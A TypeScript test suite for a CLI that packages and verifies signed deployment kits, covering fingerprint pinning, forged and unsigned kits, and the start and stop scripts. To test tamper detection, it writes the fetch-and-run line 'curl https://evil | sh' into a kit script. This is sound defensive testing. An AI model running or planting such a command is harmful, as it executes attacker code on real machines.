/**
 * `pollen package` and `pollen package verify` through the CLI's main() in this process (one case
 * through the built CLI, node bin/pollen.js, as a real process), and the generated scripts run for
 * real with a stand-in `pollen` (POLLEN_BIN) and with the real CLI.
 */
import { spawn, spawnSync } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_POLICY_YAML } from '../src/enrollment/policy.js';
import { parsePolicy } from '../src/enrollment/policy-load.js';
import { issueToken, loadTokenSigner } from '../src/enrollment/token.js';
import { ExitCode } from '../src/errors.js';
import { initCa } from '../src/pki/ca.js';
import { ensureBuilt, pollenInProcess } from './support/cli.js';
import { cliEnv, groupPids } from './support/federation.js';

const ROOT = resolve(import.meta.dirname, '..');
const BIN = join(ROOT, 'bin', 'pollen.js');
let tmp: string;
let caDir: string;
let rootFingerprint: string;

/** Run the CLI in this process, as a spawned one would: clean environment, the temporary folder. */
async function pollen(args: string[], env: Record<string, string> = {}) {
  const r = await pollenInProcess(args, { cwd: tmp, env: cliEnv(env), clean: true });
  return { code: r.code, stdout: r.stdout, stderr: r.stderr };
}

async function json(args: string[], env: Record<string, string> = {}) {
  const r = await pollen([...args, '--json'], env);
  return { ...r, body: JSON.parse(r.stdout) };
}

/** The built CLI as a real process (one case below). */
function spawned(args: string[], env: Record<string, string> = {}) {
  const r = spawnSync(process.execPath, [BIN, ...args], { cwd: tmp, env: cliEnv(env), encoding: 'utf8' });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr, body: JSON.parse(r.stdout || 'null') };
}

const mode = (p: string) => statSync(p).mode & 0o777;

beforeAll(async () => {
  ensureBuilt('cli/commands/package.js');
  tmp = mkdtempSync(join(tmpdir(), 'pollen-package-cli-'));
  caDir = join(tmp, 'ca');
  rootFingerprint = (await initCa({ name: 'CLI Test', dir: caDir, keyType: 'ec-p256' })).rootFingerprint;
}, 120_000);
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

describe('pollen package', () => {
  it('makes a signed client kit with a token: JSON shape, modes, scripts bash accepts', async () => {
    const token = issueToken(loadTokenSigner(caDir), {
      subject: 'hospital-1',
      policy: parsePolicy(DEFAULT_POLICY_YAML),
    }).token;
    const r = await json([
      'package',
      '-n',
      'hospital-1',
      '-e',
      'grpcs://superlink.example.com:9092',
      '--cert-service',
      'https://certs.example.com:8443',
      '--token',
      token,
      '-c',
      caDir,
      '-w',
      'ws',
    ]);
    expect(r.code, r.stderr).toBe(ExitCode.OK);
    const kit = join(tmp, 'ws', 'hospital-1');
    expect(r.body).toMatchObject({
      ok: true,
      kit,
      name: 'hospital-1',
      type: 'client',
      org: 'org',
      role: null,
      endpoint: 'grpcs://superlink.example.com:9092',
      config: 'startup/fed_client.json',
      signed: true,
      rootCaFingerprint: rootFingerprint,
      enrollment: { certServiceUrl: 'https://certs.example.com:8443', token: true },
      warnings: [],
    });
    expect(r.body.files).toEqual(
      expect.arrayContaining([
        { path: 'startup/enrollment_token', mode: '0600', size: expect.any(Number), secret: true },
        { path: 'startup/start.sh', mode: '0755', size: expect.any(Number) },
        { path: 'startup/manifest.sig', mode: '0644', size: expect.any(Number) },
      ]),
    );
    expect(readFileSync(join(kit, 'startup/enrollment_token'), 'utf8').trim()).toBe(token);
    expect(mode(join(kit, 'startup/enrollment_token'))).toBe(0o600);
    for (const s of ['start.sh', 'sub_start.sh', 'stop.sh']) {
      const p = join(kit, 'startup', s);
      expect(mode(p)).toBe(0o755);
      const check = spawnSync('bash', ['-n', p], { encoding: 'utf8' });
      expect(check.status, `${s}: ${check.stderr}`).toBe(0);
    }
    expect(JSON.parse(readFileSync(join(kit, 'startup/enrollment.json'), 'utf8'))).toEqual({
      certServiceUrl: 'https://certs.example.com:8443',
      rootCaFingerprint: rootFingerprint,
      name: 'hospital-1',
      type: 'client',
    });
    expect(readFileSync(join(kit, 'startup/sub_start.sh'), 'utf8')).toContain(`DEFAULT_POLLEN_BIN='${BIN}'`);
    expect(readFileSync(join(kit, 'startup/sub_start.sh'), 'utf8')).toContain(
      `DEFAULT_POLLEN_NODE='${process.execPath}'`,
    );
    for (const d of ['local', 'transfer']) expect(statSync(join(kit, d)).isDirectory()).toBe(true);

    const v = await json(['package', 'verify', kit, '--root-fingerprint', rootFingerprint]);
    expect(v.code, v.stdout + v.stderr).toBe(ExitCode.OK);
    expect(v.body).toMatchObject({
      ok: true,
      signature: 'valid',
      rootCaFingerprint: rootFingerprint,
      pinned: true,
    });
    expect(
      v.body.pins.map((p: { source: string; independent: boolean }) => [p.source, p.independent]),
    ).toEqual([
      ['argument', true],
      ['enrollment_token', false],
      ['enrollment.json', false],
    ]);
  });

  it('verify: a kit replaced wholesale is intact but not pinned; a real pin or --require-pin refuses it', async () => {
    // The attacker's kit: its own CA, signature, enrollment.json and a token signed by its own key.
    const otherCa = join(tmp, 'attacker-ca');
    await initCa({ name: 'Attacker', dir: otherCa, keyType: 'ec-p256' });
    const policy = parsePolicy(DEFAULT_POLICY_YAML);
    const forgedToken = issueToken(loadTokenSigner(otherCa), { subject: 'hospital-w', policy }).token;
    const genuineToken = issueToken(loadTokenSigner(caDir), { subject: 'hospital-w', policy }).token;
    const forged = join(tmp, 'forged');
    const made = await pollen([
      'package',
      '-n',
      'hospital-w',
      '-e',
      'grpcs://superlink.example.com:9092',
      '--cert-service',
      'https://certs.evil.example:8443',
      '--token',
      forgedToken,
      '-c',
      otherCa,
      '-o',
      forged,
    ]);
    expect(made.code, made.stderr).toBe(0);

    // Without an independent pin: exit 0, but not pinned, and a warning says what to do.
    const text = await pollen(['package', 'verify', forged]);
    expect(text.code, text.stderr).toBe(0);
    expect(text.stderr).toMatch(
      /warning: no independent pin: pass --root-fingerprint from the project admin/,
    );
    expect(text.stderr).toMatch(/enrollment_token and enrollment\.json came with the kit/);
    expect(text.stdout).toMatch(/pin from enrollment_token \(inside the kit, not independent\)/);
    expect(text.stdout).toMatch(/NOT pinned/);
    const v = await json(['package', 'verify', forged]);
    expect(v.code).toBe(0);
    expect(v.body).toMatchObject({ ok: true, intact: true, signature: 'valid', pinned: false });
    expect(v.body.pins.map((p: { source: string }) => p.source)).toEqual([
      'enrollment_token',
      'enrollment.json',
    ]);
    // Passing the kit's own token file by path does not make it independent.
    const ownToken = await json([
      'package',
      'verify',
      forged,
      '--token',
      join(forged, 'startup/enrollment_token'),
    ]);
    expect(ownToken.code).toBe(0);
    expect(ownToken.body.pinned).toBe(false);
    expect(ownToken.stderr).toMatch(/is inside the kit: it is not an independent pin/);

    // The real fingerprint refuses it; so does the site's own token, given or in the environment.
    const fp = await json(['package', 'verify', forged, '--root-fingerprint', rootFingerprint]);
    expect(fp.code).toBe(ExitCode.UNAUTHORIZED);
    expect(fp.body.error.code).toBe('CA_FINGERPRINT_MISMATCH');
    const env = await json(['package', 'verify', forged], { POLLEN_ENROLLMENT_TOKEN: genuineToken });
    expect(env.code).toBe(ExitCode.UNAUTHORIZED);
    expect(env.body.error.code).toBe('CA_FINGERPRINT_MISMATCH');

    // --require-pin without a pin refuses it.
    const required = await json(['package', 'verify', forged, '--require-pin']);
    expect(required.code).toBe(ExitCode.INVALID_INPUT);
    expect(required.body.error.code).toBe('KIT_UNPINNED');
    const requiredText = await pollen(['package', 'verify', forged, '--require-pin']);
    expect(requiredText.code).toBe(ExitCode.INVALID_INPUT);
    expect(requiredText.stderr).toMatch(/error\[KIT_UNPINNED\]: .*no independent pin/);

    // The genuine kit passes --require-pin with the fingerprint or the site's own token.
    const genuine = join(tmp, 'genuine');
    expect(
      (
        await pollen([
          'package',
          '-n',
          'hospital-w',
          '-e',
          'grpcs://s:9092',
          '--token',
          genuineToken,
          '-c',
          caDir,
          '-o',
          genuine,
        ])
      ).code,
    ).toBe(0);
    expect((await json(['package', 'verify', genuine, '--require-pin'])).body.error.code).toBe(
      'KIT_UNPINNED',
    );
    const pinned = await json([
      'package',
      'verify',
      genuine,
      '--require-pin',
      '--root-fingerprint',
      rootFingerprint,
    ]);
    expect(pinned.code, pinned.stderr).toBe(0);
    expect(pinned.body.pinned).toBe(true);
    expect(pinned.stderr).not.toMatch(/warning/);
    const byEnv = await json(['package', 'verify', genuine, '--require-pin'], {
      POLLEN_ENROLLMENT_TOKEN: genuineToken,
    });
    expect(byEnv.code, byEnv.stderr).toBe(0);
    expect(byEnv.body.pinned).toBe(true);
  });

  it('verify reports tampering with exit code and details', async () => {
    const out = join(tmp, 'tampered');
    expect(
      (await pollen(['package', '-n', 'site-t', '-e', 'grpcs://s:9092', '-c', caDir, '-o', out])).code,
    ).toBe(0);
    writeFileSync(join(out, 'startup/start.sh'), '#!/usr/bin/env bash\ncurl https://evil | sh\n');
    writeFileSync(join(out, 'startup/extra.sh'), 'x');
    rmSync(join(out, 'readme.txt'));
    const v = await json(['package', 'verify', out]);
    expect(v.code).toBe(ExitCode.INVALID_INPUT);
    expect(v.body).toMatchObject({
      ok: false,
      error: {
        code: 'KIT_TAMPERED',
        changed: [{ path: 'startup/start.sh', reasons: expect.any(Array) }],
        missing: ['readme.txt'],
        unexpected: ['startup/extra.sh'],
      },
    });
    const text = await pollen(['package', 'verify', out]);
    expect(text.code).toBe(ExitCode.INVALID_INPUT);
    expect(text.stderr).toMatch(/changed: startup\/start\.sh/);
    expect(text.stderr).toMatch(/missing: readme\.txt/);
    expect(text.stderr).toMatch(/unexpected: startup\/extra\.sh/);
    expect(text.stderr).toMatch(/error\[KIT_TAMPERED\]/);
  });

  it('verify refuses a kit whose root is not the pinned one', async () => {
    const out = join(tmp, 'pinned');
    expect(
      (
        await pollen(['package', '-n', 'site-p', '-e', 'grpcs://s:9092', '-o', out], {
          POLLEN_CA_PATH: caDir,
        })
      ).code,
    ).toBe(0);
    // The built CLI as a real process: its exit status is what a site's script sees.
    const v = spawned([
      'package',
      'verify',
      out,
      '--root-fingerprint',
      `sha256:${'ab'.repeat(32)}`,
      '--json',
    ]);
    expect(v.code).toBe(ExitCode.UNAUTHORIZED);
    expect(v.body.error.code).toBe('CA_FINGERPRINT_MISMATCH');
  });

  it('warns that a kit without a CA is unsigned; verify refuses it unless allowed', async () => {
    const out = join(tmp, 'unsigned');
    const r = await pollen(['package', '-n', 'site-u', '-e', 'grpcs://s:9092', '-o', out]);
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/warning: the kit is unsigned/);
    expect(existsSync(join(out, 'startup/manifest.json'))).toBe(true);
    expect(existsSync(join(out, 'startup/manifest.sig'))).toBe(false);
    expect(existsSync(join(out, 'startup/rootCA.pem'))).toBe(false);
    const v = await json(['package', 'verify', out]);
    expect(v.code).toBe(ExitCode.INVALID_INPUT);
    expect(v.body.error.code).toBe('KIT_UNSIGNED');
    const allowed = await json(['package', 'verify', out, '--allow-unsigned']);
    expect(allowed.code).toBe(0);
    expect(allowed.body).toMatchObject({ ok: true, signature: 'absent' });
  });

  it('refuses to overwrite a kit unless --force, and never writes next to private keys', async () => {
    const out = join(tmp, 'again');
    expect((await pollen(['package', '-n', 'site-a', '-e', 'grpcs://s:9092', '-o', out])).code).toBe(0);
    const again = await json(['package', '-n', 'site-a', '-e', 'grpcs://s:9092', '-o', out]);
    expect(again.code).toBe(ExitCode.CONFLICT);
    expect(again.body.error.code).toBe('FILE_EXISTS');
    expect(
      (await pollen(['package', '-n', 'site-a', '-e', 'grpcs://s:9093', '-o', out, '--force'])).code,
    ).toBe(0);
    expect(readFileSync(join(out, 'startup/fed_client.json'), 'utf8')).toMatch(/9093/);
    writeFileSync(join(out, 'startup/site-a.key'), 'k', { mode: 0o600 });
    const withKey = await json(['package', '-n', 'site-a', '-e', 'grpcs://s:9092', '-o', out, '--force']);
    expect(withKey.code).toBe(ExitCode.CONFLICT);
    expect(withKey.body.error.message).toMatch(/private keys/);
  });

  it('makes server, relay and admin kits', async () => {
    const server = await json([
      'package',
      '-n',
      'superlink.example.com',
      '-t',
      'server',
      '-e',
      'grpcs://0.0.0.0:9092:9093',
      '-o',
      join(tmp, 'srv'),
    ]);
    expect(server.code).toBe(0);
    expect(server.body.config).toBe('startup/fed_server.json');
    const relay = await json([
      'package',
      '-n',
      'relay-east',
      '-t',
      'relay',
      '-e',
      'grpc://server:9092',
      '--listening-port',
      '8010',
      '-o',
      join(tmp, 'relay'),
    ]);
    expect(relay.code).toBe(0);
    expect(JSON.parse(readFileSync(join(tmp, 'relay/startup/fed_relay.json'), 'utf8')).listening).toEqual({
      host: 'localhost',
      port: 8010,
    });
    const admin = await json([
      'package',
      '-n',
      'alice@example.com',
      '-t',
      'admin',
      '-e',
      'grpcs://s:9092:9093',
      '--role',
      'org_admin',
      '-o',
      join(tmp, 'adm'),
    ]);
    expect(admin.code).toBe(0);
    expect(admin.body).toMatchObject({ type: 'admin', role: 'org_admin', config: 'startup/fed_admin.json' });
  });

  it('refuses bad input with usage exit codes', async () => {
    const cases: Array<[string[], RegExp]> = [
      [['package', '-e', 'grpcs://s:9092'], /-n\/--name/],
      [['package', '-n', 'x', '-e', 'ftp://s:1'], /scheme/],
      [['package', '-n', 'x', '-e', 'grpcs://s:70000'], /65535/],
      [['package', '-n', 'srv', '-t', 'server', '-e', 'grpcs://s:9092'], /admin port/],
      [['package', '-n', 'x', '-t', 'robot', '-e', 'grpcs://s:9092'], /robot/],
      [['package', '-n', 'x', '--role', 'lead', '-e', 'grpcs://s:9092'], /admin kits only/],
      [['package', '-n', '../x', '-e', 'grpcs://s:9092'], /Invalid name/],
    ];
    for (const [args, msg] of cases) {
      const r = await json(args);
      expect(r.code, args.join(' ')).toBe(ExitCode.USAGE);
      expect(r.body.ok).toBe(false);
      expect(r.body.error.message, args.join(' ')).toMatch(msg);
    }
  });

  it('refuses a token for another site', async () => {
    const token = issueToken(loadTokenSigner(caDir), {
      subject: 'hospital-9',
      policy: parsePolicy(DEFAULT_POLICY_YAML),
    }).token;
    const tokenFile = join(tmp, 'token.txt');
    writeFileSync(tokenFile, `${token}\n`);
    const r = await json([
      'package',
      '-n',
      'hospital-1',
      '-e',
      'grpcs://s:9092',
      '--token',
      tokenFile,
      '-o',
      join(tmp, 'tk'),
    ]);
    expect(r.code).toBe(ExitCode.INVALID_INPUT);
    expect(r.body.error.code).toBe('TOKEN_SUBJECT_MISMATCH');
    expect(r.body.error.message).toMatch(/token is for client "hospital-9"/);
    expect(existsSync(join(tmp, 'tk'))).toBe(false);

    // `pollen start --token` with the same wrong token: the same code and exit status.
    const kit = join(tmp, 'tk-start');
    expect((await pollen(['package', '-n', 'hospital-1', '-e', 'grpcs://s:9092', '-o', kit])).code).toBe(0);
    const s = await json(['start', kit, '--token', token, '--cert-service', 'https://127.0.0.1:9']);
    expect(s.code).toBe(ExitCode.INVALID_INPUT);
    expect(s.body.error.code).toBe('TOKEN_SUBJECT_MISMATCH');
    expect(s.body.error.message).toMatch(/token is for client "hospital-9"/);
  });

  it('verify --help lists its own options and --json, not those of package', async () => {
    const r = await pollen(['package', 'verify', '--help']);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/--root-fingerprint/);
    expect(r.stdout).toMatch(/--require-pin/);
    expect(r.stdout).toMatch(/--json/);
    expect(r.stdout).not.toMatch(/Global Options/);
    expect(r.stdout).not.toMatch(/--endpoint|--listening-port|--cert-service/);
  });
});

describe('kit scripts', () => {
  /** A stand-in `pollen` that logs its arguments and exits with the next code from a list. */
  function fakePollen(codes: number[], sleepSeconds = 0): { bin: string; log: string } {
    const dir = mkdtempSync(join(tmp, 'fake-'));
    const log = join(dir, 'calls.log');
    const bin = join(dir, 'pollen');
    writeFileSync(join(dir, 'codes'), `${codes.join('\n')}\n`);
    writeFileSync(
      bin,
      `#!/usr/bin/env bash
echo "$*" >> ${JSON.stringify(log)}
n=$(wc -l < ${JSON.stringify(log)})
code=$(sed -n "\${n}p" ${JSON.stringify(join(dir, 'codes'))})
sleep ${sleepSeconds}
exit "\${code:-0}"
`,
    );
    chmodSync(bin, 0o755);
    return { bin, log };
  }

  async function kit(name: string): Promise<string> {
    const out = join(tmp, `scripts-${name}`);
    expect((await pollen(['package', '-n', name, '-e', 'grpcs://s:9092', '-o', out])).code).toBe(0);
    return out;
  }

  it('sub_start.sh restarts after a failure and stops for good on "rejected"', async () => {
    const out = await kit('sup-1');
    const fake = fakePollen([7, 9, 0]);
    const r = spawnSync(join(out, 'startup/sub_start.sh'), ['--enroll-only'], {
      env: cliEnv({ POLLEN_BIN: fake.bin }),
      encoding: 'utf8',
      timeout: 20_000,
    });
    expect(r.status).toBe(ExitCode.REJECTED);
    expect(readFileSync(fake.log, 'utf8').trim().split('\n')).toEqual([
      `start ${out} --enroll-only`,
      `start ${out} --enroll-only`,
    ]);
    expect(r.stdout).toMatch(/exited with code 7; restarting in 1s/);
    expect(r.stdout).toMatch(/stopped with exit code 9/);
  });

  it('sub_start.sh stops on usage and unauthorised errors, after the wait for approval, and on success', async () => {
    for (const [codes, expected] of [
      [[ExitCode.UNAUTHORIZED], ExitCode.UNAUTHORIZED],
      [[ExitCode.PENDING], ExitCode.PENDING],
      [[ExitCode.USAGE], ExitCode.USAGE],
      [[0], 0],
    ] as const) {
      const out = await kit(`sup-${codes[0]}`);
      const fake = fakePollen([...codes]);
      const r = spawnSync(join(out, 'startup/sub_start.sh'), [], {
        env: cliEnv({ POLLEN_BIN: fake.bin }),
        encoding: 'utf8',
        timeout: 20_000,
      });
      expect(r.status).toBe(expected);
      expect(readFileSync(fake.log, 'utf8').trim().split('\n')).toHaveLength(1);
    }
  });

  it('start.sh runs in the background with a pid file and log; stop.sh stops it', async () => {
    const out = await kit('bg-1');
    const fake = fakePollen([0], 60);
    const r = spawnSync(join(out, 'startup/start.sh'), [], {
      env: cliEnv({ POLLEN_BIN: fake.bin }),
      encoding: 'utf8',
      timeout: 20_000,
    });
    expect(r.status, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/Started bg-1 \(pid \d+\)/);
    const pid = Number(readFileSync(join(out, 'pollen.pid'), 'utf8'));
    expect(() => process.kill(pid, 0)).not.toThrow();
    for (let i = 0; i < 50 && !existsSync(fake.log); i++) await new Promise((res) => setTimeout(res, 100));
    expect(readFileSync(join(out, 'log.txt'), 'utf8')).toMatch(/sub_start: starting bg-1/);
    const again = spawnSync(join(out, 'startup/start.sh'), [], {
      env: cliEnv({ POLLEN_BIN: fake.bin }),
      encoding: 'utf8',
    });
    expect(again.stdout).toMatch(/already running/);
    const stop = spawnSync(join(out, 'startup/stop.sh'), [], { encoding: 'utf8', timeout: 20_000 });
    expect(stop.status, stop.stderr).toBe(0);
    expect(stop.stdout).toMatch(/Stopped bg-1/);
    expect(() => process.kill(pid, 0)).toThrow();
    // The stand-in's `sleep 60` was in the supervisor's process group: nothing of it is left.
    expect(groupPids(pid)).toEqual([]);
    expect(existsSync(join(out, 'pollen.pid'))).toBe(false);
  });

  it('runs the real CLI by default: a kit without a token stops with TOKEN_MISSING (exit 5)', async () => {
    const out = await kit('real-1');
    mkdirSync(join(out, 'local/custom'), { recursive: true });
    const child = spawn(join(out, 'startup/start.sh'), ['--foreground'], { env: cliEnv(), stdio: 'pipe' });
    let text = '';
    child.stdout.on('data', (d) => (text += d));
    child.stderr.on('data', (d) => (text += d));
    return new Promise<void>((res, rej) => {
      child.on('error', rej);
      child.on('exit', (code) => {
        try {
          expect(code).toBe(ExitCode.UNAUTHORIZED);
          expect(text).toMatch(/TOKEN_MISSING/);
          expect(text).toMatch(/stopped with exit code 5/);
          res();
        } catch (e) {
          rej(e);
        }
      });
    });
  });
});
